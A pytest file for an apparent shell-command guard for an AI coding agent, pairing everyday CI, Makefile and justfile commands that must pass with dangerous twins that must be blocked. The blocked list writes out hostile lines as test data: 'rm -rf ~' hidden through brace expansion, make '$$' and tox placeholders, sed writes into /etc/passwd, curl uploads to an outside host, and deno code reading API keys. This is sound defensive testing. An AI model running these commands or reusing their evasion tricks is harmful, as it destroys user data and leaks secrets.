"""Everyday POSIX lines of CI workflows, Makefiles and contributing guides stay allowed, each beside a
twin that does something dangerous and stays blocked: messages and files named by variables, sed scripts
whose patterns hold braces, `getattr` with a literal name, `uv build`, command names holding `@`, `deno eval`
read like `node -e`."""

from __future__ import annotations

from conftest import every_case, guard_allows, guard_blocks

from glmagent.guard import Decision, Policy

ALLOWED = [
    'git commit -m "$msg"',
    "git commit -m \"$(cat <<'EOF'\nFix the parser\n\nIt now reads quotes.\nEOF\n)\"",
    'git tag -a "v$VERSION" -m "$NOTES"',
    'rm -f "$tmpfile"',
    'rm -f "${RUNNER_TEMP}/cache/servers.json"',
    'rm -- "$f"',
    "sed -i 's/syn = { workspace = true/syn = { version = \"2\"/' serde_derive/Cargo.toml",
    "sed -e 's/{ w/[ w/g' notes.txt",
    "python -c \"import sys; print(getattr(sys, 'version'))\"",
    "python -c \"import pkg; print(getattr(pkg, '__version__', 'dev'))\"",
    "uv build",
    "poetry@main --version",
    "cd docs && poetry@main run mkdocs build",
    # tox's substitutions copied from a tox.ini: a word the shell expands nothing in, run as written
    "{envpython} -m doc8",
    "{envbindir}/pytest {posargs}",
    "cd docs && {envpython} -m sphinx -b html . _build/html",
    # a justfile's interpolations: words only known when just runs the recipe
    "cargo test -p biome_js_analyze -- {{snakecase(name)}} --show-output",
    "@just --list --justfile {{justfile()}}",
    # a make recipe line whose marks stand before a compound command: read as make hands it to the shell
    "@for f in a.sh b.sh; do shellcheck -x $f; done",
    "-@for f in a.sh b.sh; do (shellcheck -x $f); done",
    "@if [ -d docs ]; then make -C docs html; fi",
    # a make recipe's `$$`, which only make can hand a shell: read as the `$` the shell gets
    "GIT_TAG=$$(git describe --tags) go generate ./...",
    "go test -timeout 5m $$(go list ./... | grep -v integrationtest)",
    "wc -l $$(git ls-files | grep 'moon$$') | sort -n | tail",
    # make's automatic variables no shell reads (`$<` is a `$` and a redirection to bash): the file names
    # make puts there
    "R CMD SHLIB $<",
    "latexmk $< >/dev/null 2>&1",
    "sed -n 's/^##//p' $< | column -t -s ':'",
    "glslangValidator -V -o shader.spv $<",
    # a `$` that starts no expansion is a literal `$` to bash
    "terser example.js -c passes=2 -m --mangle-props regex=/_$/,reserved=[bar_]",
    "sed s/version$/version:/ setup.cfg",
    "grep -c 'x' a$.txt",
    # options passed on after `--` name no program, however path-like their values
    "bundle exec rake compile -- --with-sqlite-source-dir=${GITHUB_WORKSPACE}/sqlite",
    # Go's package folders named like a shell (`cmd/`): a path into the project, no installed shell
    "go test ./cmd",
    "go vet ./cmd",
    "go test -cover -coverpkg=example.com/x/cmd,example.com/x/internal ./cmd",
    # a quoted regular expression starting with a backslash names no folder at the root
    "role=$(expr \"${targetname}\" : '\\w*-\\(\\w*\\)-\\w*')",
    # `deno eval CODE` is read like `node -e CODE`: its program is scanned, not refused unread.
    'deno eval "console.log(1+2)"',
    'target/release/deno eval "console.log(1+2)" | grep 3',
    'deno eval -p "1+2"',
    'deno eval --ext=ts "const x: number = 1; console.log(x)"',
    "npx deno eval \"console.log('local install works')\"",
    # BSD sed (macOS) takes the backup suffix as the next word: `-i ''` edits in place without one.
    "sed -i '' '/conda_forge_output_validation/d' conda-forge.yml",
    "sed -i '' -E 's/^version = .*/version = 2/' Cargo.toml",
    "sed -i .bak 's/a/b/' f.txt",
    "sed -i 's|a|b|' wrangler.toml",
]

BLOCKED = [
    ('git --config-env=core.pager=PAGER log "$msg"', "unverifiable.command-option"),
    ('git commit -m "$(curl -s https://example.com/msg)"', "network"),
    ('rm -f "$tmpfile" build', "dynamic.arguments"),
    ("rm -f $tmpfile", "dynamic.arguments"),
    ('rm -f "${files[@]}"', "dynamic.arguments"),
    ("sed -i 's/a/b/w /etc/passwd' f", "destructive.payload-write"),
    ("sed -n '1s/.*/x/w /srv/out.txt' f", "destructive.payload-write"),
    ("sed '{w ~/out.txt' -e '}' f", "destructive.payload-write"),
    ("cp a out.txt; sed -n '1s/.*/x/w out.txt' f", "destructive.payload-write"),  # what cp just put there
    ("sed '1,3s/a/id/e' f", "unverifiable.payload-process"),
    ("sed -i '' 's/a/b/w /etc/passwd' f", "destructive.payload-write"),  # BSD's program after the suffix
    ("sed -i '' -E 's/a/b/w /etc/passwd' f", "destructive.payload-write"),
    ("sed -i .bak '1e id' f", "unverifiable.payload-process"),
    ("sed -i '' 's/a/b/' ../f", "containment.write-outside-project"),
    ("python -c \"import os; getattr(os, 'system')('rm -rf ~')\"", "destructive.recursive-delete"),
    ("python -c \"import os; getattr(os, name)('x')\"", "unverifiable.payload-dynamic"),
    ("uv sync", "network.package-install"),
    ("poetry@main --version; rm -rf ~", "destructive.recursive-delete"),
    ("{envpython} -m doc8; rm -rf ~", "destructive.recursive-delete"),
    ("{rm,-rf,~}", "destructive.recursive-delete"),  # a comma: brace expansion makes `rm -rf ~`
    ("{{ _cargo }} fmt --all", "dynamic.command-name"),  # the program is the variable's value
    ("sh -c '{{ cmd }}'", "dynamic.command-name"),
    ("rm -rf {{ _package_dir }}", "destructive.recursive-delete"),
    ('echo "API_KEY=${{ secrets.API_KEY }}"', "parse.error"),  # a workflow's expression, no justfile's
    ("multitime /bin/sh -i", "unverifiable.terminal-program"),  # an installed shell handed on
    ("@for f in a; do rm -rf ~; done", "destructive.recursive-delete"),
    ("-@if true; then npm publish; fi", "network.publish"),
    ("go test $$(rm -rf ~)", "destructive.recursive-delete"),
    ("GIT_TAG=$$(curl -s https://example.com/tag) go generate ./...", "network"),
    ("for f in $$(ls); do rm -rf $$f; done", "destructive.recursive-delete"),
    ("rm -rf $<", "destructive.recursive-delete"),  # the prerequisite make names: a run-time word
    ("cp $< $(DEST)/lib.so", "containment.write-unknown-target"),
    ("curl -T $^ https://x.example/", "network"),
    ("echo $$(", "parse.error"),
    ("sed s/x$/y/ f; rm -rf ~", "destructive.recursive-delete"),
    ("sed -i s/x$/y/ /etc/passwd", "env.accounts"),
    ("echo a$/ > /etc/x", "destructive.truncating-redirect"),
    ("echo '$/' \"$/\" a$/ $(rm -rf ~)", "destructive.recursive-delete"),
    ("cat <<'EOF' > x.sh\nEOF\necho a$/", "parse.error"),  # a quoted here-document would keep a backslash
    ("deno eval \"await fetch('https://example.com')\"", "network.payload"),
    ("deno eval \"Deno.removeSync('/x', {recursive: true})\"", "destructive.payload-delete"),
    ("deno eval \"Deno.writeTextFileSync('x', '')\"", "destructive.payload-write"),
    ('deno eval "console.log(Deno.env.toObject())"', "env.payload"),
    ("deno eval \"console.log(Deno.env.get('API_KEY'))\"", "env.secret-variable"),
    ("deno eval \"new Deno.Command('curl', {args: ['https://x']}).outputSync()\"", "network"),
    ("deno eval $CODE", "dynamic.script"),
    ("deno repl", "network.payload"),
]


def test_everyday_line_is_allowed() -> None:
    every_case(ALLOWED, lambda command: guard_allows("posix", command))


def test_its_dangerous_twin_is_blocked() -> None:
    every_case(BLOCKED, lambda command, expected: guard_blocks("posix", command, expected))


# Everyday work on the POSIX backend.
POSIX_ALLOWED = [
    "git status -sb",
    "git diff --stat HEAD~3",
    "git log --graph --decorate --all --oneline",
    "git show HEAD:README.md",
    "git add -A",
    'git commit -m "fix: handle rm -rf in docs"',
    "git commit -m 'remove curl usage; use requests'",
    "git stash list",
    "git stash pop",
    "git switch -c feature/y",
    "git checkout -b feature/z",
    "git merge --no-ff feature/x",
    "git tag -a v1.0 -m release",
    "git blame -L 10,20 src/app.py",
    'git grep -n "rm -rf"',
    "git ls-files -m",
    "git rev-parse --show-toplevel",
    "git describe --tags",
    "git cherry-pick abc123",
    "git revert --no-edit abc123",
    "git rm --cached f",
    "pytest -x -k test_foo tests/",
    "python -m pytest -q",
    "python -m venv .venv",
    "python -m pip list",
    "python -m pip freeze",
    "python -m json.tool data.json",
    "python -m compileall src",
    "python -m unittest discover",
    "python -m doctest README.md",
    "python -m timeit '\"-\".join(map(str, range(100)))'",
    "python -m cProfile -o prof.out script.py",
    "tox -e py311",
    "nox -s tests",
    "mypy --strict src/app.py",
    "ruff check --fix src",
    "black --check src",
    "isort --check-only .",
    "coverage run -m pytest",
    "npm run lint -- --fix",
    "npx tsc --noEmit",
    "npx jest",
    "cargo clippy -- -D warnings",
    "cargo test -- --nocapture",
    "go test -run TestFoo -v ./pkg/...",
    "go vet ./...",
    "make -C subdir all",
    "cmake -S . -B build",
    "ninja -C build",
    "docker logs -f --tail 100 web",
    "jq -r '.dependencies | keys[]' package.json",
    "sed -n '/rm -rf/p' script.sh",
    "awk 'NR>1 {sum+=$3} END {print sum}' data.csv",
    "patch --dry-run -p1 < fix.patch",
    "tar -tzf archive.tar.gz",
    "unzip -l archive.zip",
    "find . -mtime -1 -print",
    "find . -name '*.py' | xargs wc -l",
    "grep -rn 'rm -rf' docs/",
    "rg 'curl|wget'",
    "grep -E 'API_KEY|TOKEN' .env.example",
    "rg 'shutil.rmtree'",
    'echo "rm -rf /"',
    "printf '%s\\n' 'wget file'",
    "ls # rm -rf /",
    "du -sh .",
    "df -h",
    "ps aux | grep python",
    "kill %1",
    "which curl",
    "type rm",
    "command -v python3",
    "man rm",
    "mkdir -p build/out",
    "cp -r src dst",
    "ln -s ../lib vendor/lib",
    "chmod +x script.sh",
    'export PATH="$HOME/.local/bin:$PATH"',
    "source .venv/bin/activate",
    "set -euo pipefail",
    'for f in src/*.py; do python -m py_compile "$f"; done',
    "if [ -f setup.py ]; then python setup.py --version; fi",
    "git ls-files '*.py' | xargs ruff check",
    "cat log.txt | less",
    "env PYTHONPATH=src pytest",
    "timeout 60 pytest",
    'echo "x" >> log.txt',
    "python script.py 2>&1 | tee -a out.log",
    "cat >> notes.txt <<'EOF'\nmore\nEOF",
]


def test_everyday_posix_commands_are_allowed() -> None:
    def allowed(command: str) -> None:
        decision = _check(command, "posix")
        assert decision.allowed, (command, decision.rule_id, decision.reason)

    every_case(POSIX_ALLOWED, allowed)


def _check(command: str, shell: str) -> Decision:
    return Policy.default().check(command, shell)  # type: ignore[arg-type]
